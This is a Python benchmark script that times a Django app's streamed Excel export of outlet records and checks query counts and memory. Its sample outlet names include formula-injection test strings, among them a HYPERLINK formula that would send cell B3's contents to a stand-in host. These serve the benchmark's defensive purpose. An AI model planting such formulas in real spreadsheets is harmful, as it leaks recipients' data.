#!/usr/bin/env python
"""Benchmark of a streamed Excel export (core.excel.export_response): rows per second.

    .venv/bin/python bench/export_stream.py                 # 100000 outlets, SQLite in /tmp
    .venv/bin/python bench/export_stream.py --rows 20000

It creates its own SQLite database (/tmp/xiuhao_bench_export.sqlite3, deleted first), migrates,
bulk-inserts --rows outlets (each with a branch: the export follows that foreign key, so a
forgotten select_related shows as one query a row) whose names mix plain text, formula-like
text (=HYPERLINK…, +1, @x) and a control character, then times the export as the export page
runs it (queryset of an all-scope superuser → write-only workbook → HTTP response). It checks
that the query count does not depend on the rows, and prints:

    RESULT export=org.outlet rows=… seconds=… rows_per_s=… queries=… kb=… peak_rss_mb=…

Target: rows_per_s ≥ 20000 for 100 000 rows.
"""

import argparse
import os
import resource
import sys
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT))
DB = Path("/tmp/xiuhao_bench_export.sqlite3")


def main():
    p = argparse.ArgumentParser(description=__doc__.splitlines()[1])
    p.add_argument("--rows", type=int, default=100_000)
    args = p.parse_args()
    for suffix in ("", "-wal", "-shm", "-journal"):
        Path(f"{DB}{suffix}").unlink(missing_ok=True)
    os.environ["DATABASE_URL"] = f"sqlite:///{DB}"
    os.environ["DJANGO_SETTINGS_MODULE"] = "xiuhao.config.settings"
    os.environ["DEBUG"] = "false"
    os.environ.setdefault("LOG_LEVEL", "ERROR")
    os.environ.setdefault("HUEY_SQLITE", "/tmp/xiuhao_bench_export_huey.sqlite3")
    os.environ.setdefault("HUEY_IMMEDIATE", "true")
    import django

    django.setup()
    from django.contrib.auth import get_user_model
    from django.core.management import call_command
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from xiuhao.core import excel
    from xiuhao.core.registry import registry
    from xiuhao.org.models import Branch, Outlet

    call_command("migrate", verbosity=0, interactive=False)
    admin = get_user_model().objects.create_superuser(username="bench", password="x", email="b@x.cn")
    branches = Branch.objects.bulk_create(Branch(code=f"b{i}", name=f"分公司{i}") for i in range(20))
    names = ["网点", '=HYPERLINK("http://x/?"&B3,"查看")', "+1", "@x", "控制\x01字符"]
    for start in range(0, args.rows, 5000):
        Outlet.objects.bulk_create(
            Outlet(code=f"o{i:06d}", name=f"{names[i % len(names)]}{i}", branch=branches[i % 20],
                   contact_name="张伟", phone="13800138000", address="深圳市南山区科技园")
            for i in range(start, min(start + 5000, args.rows)))
    config = registry.configs["org.outlet"]
    connection.force_debug_cursor = True
    t = time.perf_counter()
    with CaptureQueriesContext(connection) as ctx:
        response, count = excel.export_response(config, config.queryset(admin), user=admin)
    seconds = time.perf_counter() - t
    assert count == args.rows, count
    peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss / 1024
    print(f"RESULT export={config.key} rows={count} seconds={seconds:.2f} rows_per_s={count / seconds:.0f} "
          f"queries={len(ctx.captured_queries)} kb={len(response.content) // 1024} peak_rss_mb={peak:.0f}", flush=True)


if __name__ == "__main__":
    main()
